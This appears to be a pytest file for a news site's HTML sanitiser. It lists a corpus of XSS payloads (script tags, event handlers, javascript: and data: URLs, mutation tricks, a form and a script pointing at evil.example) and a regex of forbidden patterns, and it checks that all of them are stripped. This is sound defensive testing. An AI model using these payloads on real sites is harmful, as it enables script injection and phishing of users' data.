"""The body's sanitiser: a corpus of hostile HTML leaves nothing that runs, loads or styles, and
what staff mean (paragraphs, lists, bold, links) stays."""

from __future__ import annotations

import re

import pytest

from webapp.news.formatting import plain_text, sanitise

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<p onclick="alert(1)">bấm</p>',
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">xem</a>',
    '<a href="JaVaScRiPt:alert(1)">xem</a>',
    '<a href="&#106;avascript:alert(1)">xem</a>',
    '<a href="  javascript:alert(1)">xem</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">xem</a>',
    '<a href="vbscript:msgbox(1)">xem</a>',
    '<p style="background:url(javascript:alert(1))">kiểu</p>',
    "<style>body{display:none}</style>",
    '<iframe src="https://evil.example"></iframe>',
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name="cccd"><button>Gửi</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<a href="https://example.org" target="_blank" onmouseover="alert(1)">link</a>',
    "<!--<script>alert(1)</script>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<template><script>alert(1)</script></template>',
    '<div id="main" class="skip-link">giả mạo</div>',
    '"><script>alert(1)</script>',
]
FORBIDDEN = re.compile(r"<\s*(script|style|iframe|svg|math|img|object|embed|form|input|meta|base|"
                       r"link|noscript|template|div)\b|\bon\w+\s*=|javascript:|vbscript:|data:|"
                       r"style=|target=|xlink|<!--", re.IGNORECASE)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_hostile_survives(hostile):
    cleaned = sanitise(hostile)
    assert not FORBIDDEN.search(cleaned), cleaned


def test_script_and_style_content_goes_with_the_tag():
    assert sanitise("<p>Trước</p><script>alert(1)</script><style>p{}</style><p>Sau</p>") == (
        "<p>Trước</p><p>Sau</p>")


def test_what_staff_mean_stays():
    body = ('<p>Bà con <strong>lưu ý</strong>:</p><ul><li>Mang <b>CCCD</b></li></ul>'
            '<ol><li>Một</li></ol><p><a href="https://dichvucong.gov.vn">Cổng dịch vụ công</a>'
            ' hoặc gọi <a href="tel:02763822222">0276 382 2222</a></p>')
    cleaned = sanitise(body)
    assert "<strong>lưu ý</strong>" in cleaned and "<ul><li>Mang <b>CCCD</b></li></ul>" in cleaned
    assert '<a href="https://dichvucong.gov.vn" rel="noopener noreferrer nofollow">' in cleaned
    assert 'href="tel:02763822222"' in cleaned


def test_plain_text_becomes_paragraphs_and_lists_and_is_escaped():
    typed = "Thông báo của UBND xã.\nDòng hai.\n\n- Mang CCCD\n- Mang thẻ BHYT\n\n1 < 2 & 3 > 2"
    assert sanitise(typed) == ("<p>Thông báo của UBND xã.<br>Dòng hai.</p>"
                               "<ul><li>Mang CCCD</li><li>Mang thẻ BHYT</li></ul>"
                               "<p>1 &lt; 2 &amp; 3 &gt; 2</p>")


def test_plain_text_of_a_body_has_one_block_a_line():
    assert plain_text("<p>Một &amp; hai</p><ul><li>Ba</li><li>Bốn</li></ul>") == (
        "Một & hai\nBa\nBốn")
